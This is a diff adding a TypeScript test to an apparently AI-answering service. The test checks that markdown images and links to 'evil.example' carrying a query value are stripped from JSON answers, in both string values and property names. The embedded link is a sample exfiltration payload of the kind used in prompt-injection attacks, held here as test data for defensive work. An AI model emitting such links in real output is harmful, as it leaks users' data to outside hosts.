@@ -67,6 +67,23 @@ describe('an answer in JSON', () => {
     }
   });
 
+  it('loses images and links that neither a source nor the schema contains, in strings and in names', async () => {
+    const open = {
+      type: 'object' as const,
+      properties: { summary: { type: 'string' as const }, license: { enum: ['https://license.example/mit'] } },
+      additionalProperties: { type: 'string' as const },
+    };
+    const leak = 'https://evil.example/?q=KILN';
+    const license = 'https://license.example/mit';
+    answers.server.next(replies({ summary: `${FIRED} ![a](${leak})`, license, [`more ![](${leak})`]: `See ${leak}` }));
+    const { answer, json } = await answers.ask(tenantId, {
+      answering: answers.open({ urls: [answers.server.url] }),
+      answer_format: { type: 'json', schema: open },
+    });
+    expect(json).toStrictEqual({ summary: `${FIRED} `, license, 'more ': 'See ' });
+    expect(JSON.parse(answer)).toStrictEqual(json);
+  });
+
   it('is written without response_format by a server that refuses it', async () => {
     const refusal = { error: { message: 'This response_format type is unavailable now', param: null } };
     answers.server.next(misbehaviour.status(400, {}, refusal), replies({ degrees: 1200 }), replies({ degrees: 1200 }));
